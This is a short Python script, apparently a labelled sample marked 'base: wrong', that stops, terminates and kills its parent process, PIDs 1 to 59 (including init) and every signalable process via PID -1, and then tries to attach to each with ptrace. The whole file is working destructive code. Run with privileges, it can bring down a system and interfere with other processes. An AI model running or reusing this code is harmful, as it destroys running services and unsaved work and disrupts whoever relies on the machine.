# ---
# about: signals, stops and traces every process it can name
# base: wrong
# ---
import ctypes, os, signal

libc = ctypes.CDLL(None)
for pid in [os.getppid(), *range(1, 60), -1]:
    if pid in (0, os.getpid()):
        continue
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
    libc.ptrace(16, pid, 0, 0)
